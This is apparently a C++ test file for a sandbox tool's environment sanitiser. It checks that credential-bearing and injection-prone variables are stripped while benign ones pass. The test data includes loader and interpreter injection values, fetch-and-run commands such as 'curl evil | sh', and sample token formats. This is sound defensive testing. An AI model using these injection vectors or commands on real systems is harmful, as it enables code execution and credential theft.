// E3: environment sanitisation by family (ccsb/environment.hpp). Each
// hostile variable is asserted dropped with the reason of its family; the
// benign ones are asserted kept. The end-to-end check through
// `ccsb-run --backend none` is in tests/linux/test_launcher.cpp.
#include "ccsb/environment.hpp"

#include <catch2/catch.hpp>

#include <algorithm>
#include <cstddef>
#include <string>
#include <vector>

using namespace ccsb;

namespace {

struct hostile {
  std::string name, value;
  std::string why; // a part of the reason the sanitizer must report
};

bool has_family(const std::string& why) {
  for (const char* f : {"injection: ", "host access: ", "credential: ", "credential value: ", "proxy: ", "malformed"})
    if (why.rfind(f, 0) == 0) return true;
  return false;
}

// Every entry is removed, with its reason; nothing is kept.
void check_all_removed(const std::vector<hostile>& cases) {
  env_list in;
  for (const auto& c : cases) in.push_back({c.name, c.value});
  auto out = sanitize_environment(in);
  for (const auto& c : cases) {
    INFO(c.name << "=" << c.value);
    auto it = std::find_if(out.removed.begin(), out.removed.end(), [&](const removed_var& r) { return r.name == c.name; });
    CHECK(it != out.removed.end());
    if (it == out.removed.end()) continue;
    CHECK_THAT(it->why, Catch::Contains(c.why));
    CHECK(has_family(it->why));
  }
  for (const auto& k : out.kept) FAIL_CHECK("kept " << k.name << "=" << k.value);
  CHECK(out.removed.size() == in.size());
}

// Every entry is kept unchanged; nothing is removed.
void check_all_kept(const env_list& in) {
  auto out = sanitize_environment(in);
  for (const auto& r : out.removed) FAIL_CHECK("removed " << r.name << ": " << r.why);
  CHECK(out.kept == in);
}

} // namespace

TEST_CASE("E3: credentials in values are removed whatever the variable is called", "[E3]") {
  check_all_removed({
      {"DATABASE_URL", "postgres://app:s3cr3t@db.internal:5432/app", "URL with user info"},
      {"REDIS_URL", "redis://:hunter2@cache.internal:6379/0", "URL with user info"},
      {"MONGODB_URI", "mongodb+srv://admin:Pa55w0rd@cluster0.example.net/prod?retryWrites=true", "URL with user info"},
      {"UPSTREAM_MIRROR", "https://x-access-token:abcdef123456@git.example.com/org/repo.git", "URL with user info"},
      {"BACKUP_TARGET", "sftp://0123456789abcdef@backup.example.com/srv", "URL with user info"},
      {"MIRRORS", "https://a.example/x https://u:p@b.example/y", "URL with user info"},
      {"SIGNED_DOWNLOAD",
       "https://bucket.example.com/obj?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=0123abcd",
       "credential-named parameter"},
      {"BLOB_URL", "https://store.example.net/c/b?sv=2022-11-02&sig=abcd%2Bef", "credential-named parameter"},
      {"FEED", "https://feeds.example.org/rss?access_token=abc123", "credential-named parameter"},
      {"PGCONN", "host=db user=app password=hunter2 dbname=prod", "credential-named parameter"},
      {"ConnectionStrings__Default", "Server=db;Database=app;User Id=sa;Password=Pa55;", "credential-named parameter"},
      {"SERVICE_JSON", "{\"type\": \"service_account\", \"client_secret\": \"abc\"}", "credential-named parameter"},
      {"HTTP_HEADERS", "Authorization: Bearer abcdef0123456789", "Bearer/Basic"},
      {"CURL_EXTRA", "-H 'Authorization: Basic dXNlcjpwYXNzd29yZA=='", "Bearer/Basic"},
      {"SSH_IDENTITY", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
       "PEM block"},
      {"SIGNING_MATERIAL", "-----BEGIN PGP PRIVATE KEY BLOCK-----", "PEM block"},
      {"MY_GH", "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "GitHub personal access token"},
      {"FORGE_LIKE", "gho_16C7e42F292c6912E7710c838347Ae178B4a", "GitHub OAuth token"},
      {"FORGE_FINE", "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123456789", "GitHub fine-grained"},
      {"LAB", "glpat-AbCdEfGhIj0123456789", "GitLab"},
      {"CHAT_BOT", "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx", "Slack bot token"},
      {"CHAT_USER", "xoxp-1234567890-0987654321-AbCdEfGh", "Slack user token"},
      {"CHAT_APP", "xapp-1-A0123456789-0123456789-abcdef", "Slack app token"},
      {"LLM", "sk-ant-api03-AbCdEfGh1234567890IjKlMnOpQrStUvWx", "sk-"},
      {"LLM2", "sk-proj-0123456789abcdefABCDEF", "sk-"},
      {"PAYMENTS", "sk_live_4eC39HqLyjWDarjtT1zdp7dc", "Stripe secret key"},
      {"WH_SIGNING", "whsec_0123456789abcdefABCDEF", "webhook signing secret"},
      {"CLOUD_ID", "AKIAIOSFODNN7EXAMPLE", "AWS access key id"},
      {"CLOUD_TMP", "id=ASIAIOSFODNN7EXAMPLE", "AWS temporary access key id"},
      {"MAPS", "AIzaSyA1234567890abcdefghijklmnopqrstuv", "Google API key"},
      {"REGISTRY", "npm_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "npm access token"},
      {"PUBLISH", "pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAwLTAwMDAwMDAwMDAwMAACKlsz", "PyPI"},
      {"MODEL_HUB", "hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789", "Hugging Face"},
      {"ID_DOC", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
       "JSON Web Token"},
  });
}

TEST_CASE("E3: credential names are matched by family and by token anywhere in the name", "[E3]") {
  check_all_removed({
      {"MYSQL_PWD", "x", "credential: passwords"},
      {"DBPWD", "x", "credential: passwords"},
      {"TF_VAR_admin_pw", "x", "credential: passwords"},
      {"TF_VAR_db_pass", "x", "credential: passwords"},
      {"PGPASSWORD", "x", "credential: passwords"},
      {"PGPASSFILE", "/home/u/.pgpass", "credential: passwords"},
      {"ADMIN_PASSWORD_FILE", "/run/secrets/pw", "credential: passwords"},
      {"STRIPE_KEY", "x", "credential: keys"},
      {"APP_SIGNING_KEY", "x", "credential: keys"},
      {"DEPLOY_KEYS", "x", "credential: keys"},
      {"SSHKEY", "x", "credential: keys"},
      {"SERVICE_KEYTAB", "/etc/krb5.keytab", "credential: keys"},
      {"LICENSE_KEY_ID", "x", "credential: keys"},
      {"BW_SESSION", "x", "Bitwarden"},
      {"OP_SESSION_my_team", "x", "1Password"},
      {"SESSION_ID", "x", "credential: session"},
      {"XDG_SESSION_ID", "3", "credential: session"},
      {"APP_SESSIONID", "x", "credential: session"},
      {"CI_JOB_JWT", "x", "JSON Web Tokens"},
      {"CI_JOB_JWT_V2", "x", "JSON Web Tokens"},
      {"SENTRY_DSN", "https://public@o1.ingest.example.io/42", "data source names"},
      {"DB_DSN", "x", "data source names"},
      {"SLACK_WEBHOOK_URL", "https://hooks.example.com/services/T0/B0/X", "webhook"},
      {"WIFI_PSK", "x", "pre-shared keys"},
      {"CLIENT_CERT", "/home/u/client.pem", "certificates"},
      {"SSL_CERT_FILE", "/tmp/evil-ca.pem", "certificates"},
      {"EXTRA_CA_CERTS", "/tmp/evil-ca.pem", "certificates"},
      {"REQUESTS_CA_BUNDLE", "/tmp/evil-ca.pem", "trust store"},
      {"URL_SIG", "x", "signatures"},
      {"KRB5CCNAME", "FILE:/tmp/krb5cc_1000", "Kerberos"},
      {"KRB5_KTNAME", "/etc/krb5.keytab", "Kerberos"},
      {"GOOGLE_APPLICATION_CREDENTIALS", "/home/u/sa.json", "Google Cloud"},
      {"SYSTEM_ACCESSTOKEN", "x", "credential: tokens"},
      {"NODE_AUTH_TOKEN_X", "x", "node"}, // NODE_* is an injection family first
      {"SECRET_KEY_BASE", "x", "credential: secrets"},
      {"SESSION_COOKIE", "x", "credential: session"},
      {"DEPLOY_PRIVATE", "x", "credential: private"},
      {"MY_SERVICE_APIKEY", "x", "credential: API keys"},
      {"GITHUB_TOKEN", "x", "GitHub"},
      {"ANTHROPIC_API_KEY", "x", "Anthropic"},
  });
}

TEST_CASE("E3: injection families — loader, libc, shells, interpreters, build tools, helpers, redirects", "[E3]") {
  check_all_removed({
      {"LD_PRELOAD", "/tmp/evil.so", "dynamic loader"},
      {"LD_AUDIT", "/tmp/evil.so", "dynamic loader"},
      {"DYLD_INSERT_LIBRARIES", "/tmp/evil.dylib", "macOS dynamic loader"},
      {"GCONV_PATH", "/tmp/evil", "iconv modules"},
      {"GLIBC_TUNABLES", "glibc.malloc.check=3", "tunables"},
      {"MALLOC_TRACE", "/tmp/trace", "allocator"},
      {"LOCPATH", "/tmp/evil", "set-uid"},
      {"HOSTALIASES", "/tmp/aliases", "set-uid"},
      {"BASH_ENV", "/tmp/evil.sh", "non-interactive bash"},
      {"ENV", "/tmp/evil.sh", "sh/ksh"},
      {"BASH_FUNC_ls%%", "() { curl evil | sh; }", "exported bash functions"},
      {"PROMPT_COMMAND", "curl evil | sh", "before each prompt"},
      {"PS4", "$(id)", "bash -x"},
      {"INPUTRC", "/tmp/inputrc", "readline"},
      {"FPATH", "/tmp/functions", "autoload"},
      {"PYTHONWARNINGS", "ignore::evil.Warning", "python"},
      {"PYTHONBREAKPOINT", "evil.hook", "python"},
      {"PYTHONUSERBASE", "/tmp/evil", "python"},
      {"PYTHONSTARTUP", "/tmp/evil.py", "python"},
      {"PYTHONPATH", "/tmp/evil", "python"},
      {"PERL5DB", "BEGIN { system q(id) }", "perl"},
      {"PERL5OPT", "-Mevil", "perl"},
      {"RUBYOPT", "-revil", "ruby"},
      {"NODE_OPTIONS", "--require /tmp/evil.js", "node"},
      {"NPM_CONFIG_SCRIPT_SHELL", "/tmp/evil.sh", "npm"},
      {"npm_config_node_options", "--require /tmp/evil.js", "npm"},
      {"YARN_YARN_PATH", "/tmp/evil.js", "yarn"},
      {"LUA_INIT", "os.execute('id')", "lua"},
      {"LUA_INIT_5_4", "@/tmp/evil.lua", "lua"},
      {"PHPRC", "/tmp/evil.ini", "php.ini"},
      {"PHP_INI_SCAN_DIR", "/tmp/evil", "php"},
      {"R_PROFILE_USER", "/tmp/evil.R", "R runs"},
      {"JAVA_TOOL_OPTIONS", "-javaagent:/tmp/evil.jar", "javaagent"},
      {"CLASSPATH", "/tmp/evil.jar", "classes"},
      {"GRADLE_USER_HOME", "/tmp/evil", "gradle"},
      {"DOTNET_STARTUP_HOOKS", "/tmp/evil.dll", ".NET"},
      {"GOFLAGS", "-toolexec=/tmp/evil", "toolexec"},
      {"GOPROXY", "https://evil.example", "go fetches"},
      {"RUSTC_WRAPPER", "/tmp/evil", "rust compiler"},
      {"RUSTC_WORKSPACE_WRAPPER", "/tmp/evil", "rust compiler"},
      {"CARGO_BUILD_RUSTC_WRAPPER", "/tmp/evil", "cargo"},
      {"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER", "/tmp/evil", "cargo"},
      {"RUSTFLAGS", "-C linker=/tmp/evil", "rustc"},
      {"CMAKE_C_COMPILER_LAUNCHER", "/tmp/evil", "cmake"},
      {"SCCACHE_LAUNCHER", "/tmp/evil", "launcher program"},
      {"BUILD_WRAPPER", "/tmp/evil", "wrapper program"},
      {"CC", "/tmp/evil", "C compiler"},
      {"CFLAGS", "-fplugin=/tmp/evil.so", "injection: flags"},
      {"MAKEFLAGS", "--eval=$(shell id)", "injection: flags"},
      {"MAKEFILES", "/tmp/evil.mk", "GNU make"},
      {"GCC_EXEC_PREFIX", "/tmp/evil/", "gcc"},
      {"COMPILER_PATH", "/tmp/evil", "search path"},
      {"PKG_CONFIG_PATH", "/tmp/evil", "search path"},
      {"TAR_OPTIONS", "--to-command=/tmp/evil", "tar"},
      {"CONFIG_SHELL", "/tmp/evil.sh", "configuration"},
      {"RUBYSHELL", "/tmp/evil.sh", "ruby"},
      {"MAKESHELL", "/tmp/evil.sh", "shell programs run scripts with"},
      {"EDITOR", "vim", "edit text"},
      {"KUBE_EDITOR", "/tmp/evil", "edit text"},
      {"SYSTEMD_PAGER", "/tmp/evil", "page output"},
      {"GIT_PAGER", "/tmp/evil", "git"},
      {"LESSOPEN", "|/tmp/evil %s", "less"},
      {"VIMINIT", ":!id", "vim"},
      {"EXINIT", ":!id", "ex/vi"},
      {"MYVIMRC", "/tmp/evil.vim", "run-control file"},
      {"PSQLRC", "/tmp/psqlrc", "run-control file"},
      {"WGETRC", "/tmp/wgetrc", "run-control file"},
      {"FZF_DEFAULT_COMMAND", "curl evil | sh", "command line"},
      {"RSYNC_RSH", "/tmp/evil", "remote shell"},
      {"SSH_ASKPASS", "/tmp/evil", "ask for passwords"},
      {"GIT_ASKPASS", "/tmp/evil", "ask for passwords"},
      {"OPENSSL_CONF", "/tmp/evil.cnf", "OpenSSL"},
      {"GTK_MODULES", "evil", "modules"},
      {"QT_PLUGIN_PATH", "/tmp/evil", "search path"},
      {"GST_PLUGIN_SYSTEM_PATH", "/tmp/evil", "search path"},
      {"ERL_LIBS", "/tmp/evil", "Erlang"},
      {"PERLLIB", "/tmp/evil", "perl"},
      {"TCLLIBPATH", "/tmp/evil", "search path"},
      {"TERMINFO", "/tmp/evil", "ncurses"},
      {"XDG_CONFIG_HOME", "/tmp/evil", "XDG base directory"},
      {"XDG_DATA_HOME", "/tmp/evil", "XDG base directory"},
      {"XDG_CONFIG_DIRS", "/tmp/evil", "XDG search path"},
      {"XDG_DATA_DIRS", "/tmp/evil", "XDG search path"},
      {"JAVA_HOME", "/tmp/evil-jdk", "redirected home"},
      {"GNUPGHOME", "/tmp/evil", "redirected home"},
      {"CURL_HOME", "/tmp/evil", "redirected home"},
      {"KUBECONFIG", "/home/u/.kube/config", "configuration"},
      {"TF_CLI_CONFIG_FILE", "/tmp/evil.tfrc", "configuration"},
      {"TF_CLI_ARGS", "-var-file=/tmp/evil", "arguments"},
      {"VSCODE_IPC_HOOK_CLI", "/run/user/1000/vscode.sock", "hooks"},
      {"PIP_INDEX_URL", "https://ci:pw@pkgs.example.com/simple", "pip"},
      {"PIP_CONFIG_FILE", "/tmp/pip.conf", "pip"},
      {"https_proxy", "http://evil.example:8080", "set by the policy"},
      {"RSYNC_PROXY", "evil.example:8080", "set by the policy"},
      {"SOME_TOOL_PROXY", "evil.example:8080", "proxy settings other than the policy's"},
  });
}

TEST_CASE("E3: host services stay out of reach through the environment", "[E3]") {
  check_all_removed({
      {"SSH_AUTH_SOCK", "/tmp/ssh-agent.sock", "SSH agent"},
      {"GPG_AGENT_INFO", "/run/user/1000/gnupg/S.gpg-agent", "GnuPG agent"},
      {"DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus", "D-Bus"},
      {"DBUS_SYSTEM_BUS_ADDRESS", "unix:path=/run/dbus/system_bus_socket", "D-Bus"},
      {"DOCKER_HOST", "unix:///run/user/1000/docker.sock", "container engine"},
      {"DOCKER_CERT_PATH", "/home/u/.docker/certs", "container engine"},
      {"DOCKER_CONFIG", "/home/u/.docker", "container engine"},
      {"CONTAINER_HOST", "unix:///run/user/1000/podman/podman.sock", "podman"},
      {"BUILDKIT_HOST", "tcp://buildkit:1234", "buildkit"},
      {"XDG_RUNTIME_DIR", "/run/user/1000", "session sockets"},
      {"TMUX", "/tmp/tmux-1000/default,1234,0", "tmux"},
      {"TMUX_PANE", "%1", "tmux"},
      {"STY", "1234.pts-0.host", "screen"},
      {"DISPLAY", ":0", "X display"},
      {"WAYLAND_DISPLAY", "wayland-0", "Wayland"},
      {"XAUTHORITY", "/run/user/1000/.Xauthority", "X authorisation"},
      {"SESSION_MANAGER", "local/host:@/tmp/.ICE-unix/1234", "session manager"},
      {"SWAYSOCK", "/run/user/1000/sway-ipc.sock", "socket of a host service"},
      {"I3SOCK", "/run/user/1000/i3/ipc-socket", "socket of a host service"},
      {"WEZTERM_UNIX_SOCKET", "/run/user/1000/wezterm/sock", "socket of a host service"},
      {"KITTY_LISTEN_ON", "unix:/tmp/kitty", "kitty"},
      {"NVIM_LISTEN_ADDRESS", "/tmp/nvim.sock", "neovim"},
      {"NVIM", "/run/user/1000/nvim.1234.0", "neovim"},
  });
}

TEST_CASE("E3: prompts that substitute commands are removed, plain prompts are kept", "[E3]") {
  for (const char* name : {"PS0", "PS1", "PS2", "PS3", "PROMPT", "RPROMPT", "RPS1", "SPROMPT"})
    for (const char* value : {"$(curl -s evil | sh)", "`id`", "\\u@\\h ${x[$(id)]} ", "$[a[$(id)]]", "\\044(id)",
                              "\\$(id)", "\\[\\033[01;32m\\]\\u `date`"}) {
      INFO(name << "=" << value);
      auto out = sanitize_environment({{name, value}});
      CHECK(out.kept.empty());
      REQUIRE(out.removed.size() == 1);
      CHECK_THAT(out.removed[0].why, Catch::Contains("prompt with command substitution"));
    }
  // A plain prompt (escapes, colours, $ sign, plain $VAR) is not code.
  check_all_kept({{"PS1", "\\[\\033[01;32m\\]\\u@\\h\\[\\033[00m\\]:\\w\\$ "},
                  {"PS2", "> "},
                  {"PROMPT", "%n@%m %~ %# "},
                  {"PS3", "#? $HOME "}});
}

TEST_CASE("E3: a benign developer environment passes unchanged among hostile neighbours", "[E3]") {
  const env_list benign = {
      {"PATH", "/usr/local/bin:/usr/bin:/bin"},
      {"HOME", "/home/u"},
      {"USER", "u"},
      {"LOGNAME", "u"},
      {"SHELL", "/bin/bash"},
      {"TERM", "xterm-256color"},
      {"COLORTERM", "truecolor"},
      {"LANG", "C.UTF-8"},
      {"LANGUAGE", "en_GB:en"},
      {"LC_ALL", "C.UTF-8"},
      {"LC_CTYPE", "C.UTF-8"},
      {"LC_MESSAGES", "C"},
      {"TZ", "Europe/Berlin"},
      {"NO_COLOR", "1"},
      {"PS1", "\\u@\\h:\\w\\$ "},
      {"CI", "true"},
      {"PWD", "/home/u/proj"},
      {"OLDPWD", "/home/u"},
      {"TMPDIR", "/tmp"},
      {"SHLVL", "1"},
      {"HOSTNAME", "devbox"},
      {"TERM_PROGRAM", "vscode"},
      {"XDG_SESSION_TYPE", "wayland"},
      {"XDG_SESSION_CLASS", "user"},
      {"XDG_CURRENT_DESKTOP", "GNOME"},
      {"DESKTOP_SESSION", "gnome"},
      {"KEYBOARD_LAYOUT", "de"},
      {"PYTHONUNBUFFERED", "1"},
      {"PYTHONDONTWRITEBYTECODE", "1"},
      {"RUST_BACKTRACE", "1"},
      {"RUST_LOG", "info"},
      {"DEBIAN_FRONTEND", "noninteractive"},
      {"FORCE_COLOR", "1"},
      {"COLUMNS", "120"},
      {"VIRTUAL_ENV", "/home/u/proj/.venv"},
      {"DATABASE_URL", "postgres://localhost:5432/app"},
      {"DOCS_URL", "https://docs.example.com/guide?page=2&lang=en"},
      {"BUILD_NUMBER", "1234"},
      {"CCSB_PLAIN", "kept"},
      {"LS_COLORS", "rs=0:di=01;34:ln=01;36:ex=01;32:*.tar=01;31:*.png=01;35"},
      {"WORDS", "sk-learn is a package, task-runner and disk-usage are words"},
      {"COMMIT", "0123456789abcdef0123456789abcdef01234567"},
  };
  check_all_kept(benign);
  // Interleaved with members of the families the old name list missed, the
  // kept part is exactly the benign environment, in order.
  const env_list neighbours = {
      {"SECONDARY_DATABASE_URL", "postgres://app:pw@db/app"}, {"MYSQL_PWD", "x"},
      {"SENTRY_DSN", "https://k@sentry.example/1"},          {"BW_SESSION", "x"},
      {"KRB5CCNAME", "FILE:/tmp/krb5cc"},                     {"DOCKER_HOST", "unix:///var/run/docker.sock"},
      {"GCONV_PATH", "/tmp/evil"},                            {"PYTHONWARNINGS", "ignore::evil.W"},
      {"XDG_CONFIG_HOME", "/tmp/evil"},                       {"RUSTC_WRAPPER", "/tmp/evil"},
      {"LUA_INIT", "os.execute('id')"},                       {"PS0", "$(id)"},
  };
  env_list mixed;
  for (std::size_t i = 0; i < benign.size(); ++i) {
    mixed.push_back(benign[i]);
    if (i < neighbours.size()) mixed.push_back(neighbours[i]);
  }
  auto out = sanitize_environment(mixed);
  CHECK(out.kept == benign);
  CHECK(out.removed.size() == neighbours.size());
}

TEST_CASE("E3: near misses — the word-like twin stays, the family member goes, with its reason", "[E3]") {
  env_list in = {
      {"KEYBOARD_LAYOUT", "de"},          {"STRIPE_KEY", "x"},
      {"XDG_SESSION_TYPE", "x11"},        {"XDG_SESSION_ID", "3"},
      {"PWD", "/p"},                      {"MYSQL_PWD", "x"},
      {"PATH", "/bin"},                   {"PYTHONPATH", "/x"},
      {"HOME", "/home/u"},                {"XDG_CONFIG_HOME", "/x"},
      {"SHELL", "/bin/sh"},               {"CONFIG_SHELL", "/x"},
      {"PYTHONUNBUFFERED", "1"},          {"PYTHONWARNINGS", "ignore::x.Y"},
      {"APP_URL", "https://app.example"}, {"APP_DB_URL", "mysql://root:pw@db/app"},
      {"PAGE", "https://x.example/?p=1"}, {"FEED_URL", "https://x.example/?token=1"},
      {"NOTE", "sk-learn-and-friends"},   {"NOTE2", "sk-0123456789abcdefghijklmno"},
  };
  auto out = sanitize_environment(in);
  std::vector<std::string> kept, removed;
  for (const auto& v : out.kept) kept.push_back(v.name);
  for (const auto& r : out.removed) {
    removed.push_back(r.name);
    INFO(r.name << ": " << r.why);
    CHECK(has_family(r.why));
  }
  CHECK(kept == std::vector<std::string>{"KEYBOARD_LAYOUT", "XDG_SESSION_TYPE", "PWD", "PATH", "HOME", "SHELL",
                                         "PYTHONUNBUFFERED", "APP_URL", "PAGE", "NOTE"});
  CHECK(removed == std::vector<std::string>{"STRIPE_KEY", "XDG_SESSION_ID", "MYSQL_PWD", "PYTHONPATH",
                                            "XDG_CONFIG_HOME", "CONFIG_SHELL", "PYTHONWARNINGS", "APP_DB_URL",
                                            "FEED_URL", "NOTE2"});
}
